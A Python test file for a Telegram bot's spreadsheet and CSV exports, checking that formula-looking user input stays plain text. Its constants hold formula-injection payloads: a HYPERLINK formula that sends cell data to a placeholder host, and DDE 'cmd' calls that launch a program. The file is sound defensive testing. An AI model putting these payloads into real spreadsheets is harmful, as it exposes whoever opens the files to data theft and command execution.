"""Every spreadsheet the bot writes keeps formula-looking text as text, never as a formula."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from bot.cli.main import app
from messages.sheets import append_row, csv_cell
from storage import Database, open_database
from storage.product_models import ProductStatus
from tests.chat import ChatFor, Clock
from tests.cli.test_cli import _cli
from tests.outbox.support import make_officer, seed_producers
from tests.rounds import support
from tests.trainings.test_flow import make_training

NOW = datetime(2026, 12, 1, 3, 0, tzinfo=UTC)
LINK = '=HYPERLINK("http://x?d="&M2,"x")'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
RETURN = "\r=1+1"
DANGEROUS = (LINK, PLUS, MINUS, AT, TAB, RETURN)


def _cells(content: bytes) -> list[list[tuple[object, str]]]:
    """(value, data_type) of every cell of the first sheet, read back with openpyxl."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def _assert_text_cell(rows: list[list[tuple[object, str]]], text: str) -> None:
    found = [cell for row in rows for cell in row if cell[0] == text]
    assert found, f"{text!r} is not in the sheet: {rows}"
    assert all(data_type == "s" for _, data_type in found), (text, found)


async def _seed_products(db_path: Path) -> None:
    async with open_database(db_path) as db, db.transaction() as store:
        producer = await store.users.create_producer(
            {"name": MINUS, "entity_type": "cooperative", "contact_person": AT,
             "phone": "+84912345678", "province_code": "VL", "commune": PLUS},
            NOW,
        )
        for name in (LINK, TAB, RETURN):
            pid = await store.products.create_draft(producer, NOW)
            await store.products.set_field(pid, "name", name, NOW)
            await store.products.set_field(pid, "group_code", "food", NOW)
            await store.products.set_status(pid, ProductStatus.ACCEPTED, NOW)


def test_product_export_keeps_formula_looking_text_as_text(tmp_path: Path) -> None:
    db_path = tmp_path / "ocop.db"
    asyncio.run(_seed_products(db_path))
    out = tmp_path / "products.xlsx"
    env = {"OCOP_DB_PATH": str(db_path), "OCOP_LOG_LEVEL": "WARNING"}
    result = CliRunner().invoke(app, ["export", "products", str(out)], env=env)
    assert result.exit_code == 0, result.output
    rows = _cells(out.read_bytes())
    for text in DANGEROUS:
        _assert_text_cell(rows, text)
    assert not any(dt == "f" for row in rows for _, dt in row)
    ids = [value for row in rows[1:] for value, dt in row[:1] if dt == "n"]
    # numbers stay numbers (the rows are sorted by product name)
    assert sorted(int(str(i)) for i in ids) == [1, 2, 3]


@pytest.mark.slow  # a real process
async def test_attendance_file_in_chat_and_enrolments_export_keep_text(
    db: Database, chat_for: ChatFor, clock: Clock, tmp_path: Path
) -> None:
    farmer = await support.producer(chat_for, name=LINK)
    training_id = await make_training(db, clock)
    await farmer.say("/taphuan")
    await farmer.press(f"t:{training_id}")
    await farmer.press("en")
    async with db.transaction() as store:
        found = await store.users.find("telegram", "101")
        assert found is not None and found.producer_id is not None
        await store.users.update_producer_field(found.producer_id, "contact_person", AT, clock())
        await store.users.update_producer_field(found.producer_id, "commune", PLUS, clock())
    off = await support.officer(db, chat_for)
    for key in ("/canbo", "o:trn", f"t:{training_id}", "d:list"):
        await (off.say(key) if key.startswith("/") else off.press(key))
    document = off.last.replies[0].document
    assert document is not None
    rows = _cells(document.content)
    for text in (LINK, AT, PLUS):
        _assert_text_cell(rows, text)

    out = tmp_path / "enrolments.xlsx"
    done = await asyncio.to_thread(
        _cli, tmp_path / "ocop.db", "export", "enrolments", str(training_id), str(out)
    )
    assert done.returncode == 0, done.stderr
    rows = _cells(out.read_bytes())
    for text in (LINK, AT, PLUS):
        _assert_text_cell(rows, text)


@pytest.mark.slow  # a real process
async def test_broadcast_report_csv_quotes_formula_looking_cells(
    tmp_path: Path, db: Database, chat_for: ChatFor, clock: Clock
) -> None:
    await seed_producers(db, len(DANGEROUS), clock(), communes=(PLUS,))
    async with db.transaction() as store:
        for n, text in enumerate(DANGEROUS):
            await store.users.update_producer_field(n + 1, "name", text, clock())
    await make_officer(db, clock(), "555", "VL")
    officer = chat_for("555")
    for step in ("/canbo", "o:bc", "Lịch tập huấn 12/12", "a:ok", "c:now", "c:go"):
        await (officer.press(step) if ":" in step else officer.say(step))
    out = tmp_path / "report.csv"
    done = await asyncio.to_thread(
        _cli, tmp_path / "ocop.db", "broadcasts", "report", "1", "--csv", str(out)
    )
    assert done.returncode == 0, done.stderr
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert sorted(r["producer"] for r in rows) == sorted("'" + text for text in DANGEROUS)
    assert {r["commune"] for r in rows} == {"'" + PLUS}
    assert all(r["user_id"].isdigit() and r["chat_id"].isdigit() for r in rows)  # numbers kept


def test_results_templates_are_plain_text_headers(tmp_path: Path) -> None:
    env = {"OCOP_DB_PATH": str(tmp_path / "ocop.db"), "OCOP_LOG_LEVEL": "WARNING"}
    xlsx = tmp_path / "t.xlsx"
    csv_file = tmp_path / "t.csv"
    for path in (xlsx, csv_file):
        result = CliRunner().invoke(
            app, ["--create", "import", "results", str(path), "--template"], env=env
        )
        assert result.exit_code == 0, result.output
    [header] = _cells(xlsx.read_bytes())
    assert header[0] == ("Mã hồ sơ", "s")
    assert all(dt == "s" for _, dt in header)
    with csv_file.open(encoding="utf-8-sig", newline="") as f:
        [csv_header] = list(csv.reader(f))
    assert csv_header == [value for value, _ in header]


def test_csv_cells_keep_plain_numbers_and_xlsx_cells_drop_characters_xml_cannot_hold() -> None:
    assert csv_cell("-1001234567") == "-1001234567"  # a Telegram group's chat id
    assert csv_cell("+84912345678") == "+84912345678"
    assert csv_cell("-1+1") == "'-1+1" and csv_cell("=1") == "'=1" and csv_cell("@A1") == "'@A1"
    assert csv_cell(-5) == -5 and csv_cell(None) is None and csv_cell("Kẹo dừa") == "Kẹo dừa"
    book = Workbook()
    sheet = book.worksheets[0]
    append_row(sheet, ["Kẹo\x07 dừa", "=1+1", 3])
    buffer = io.BytesIO()
    book.save(buffer)
    assert _cells(buffer.getvalue()) == [[("Kẹo dừa", "s"), ("=1+1", "s"), (3, "n")]]
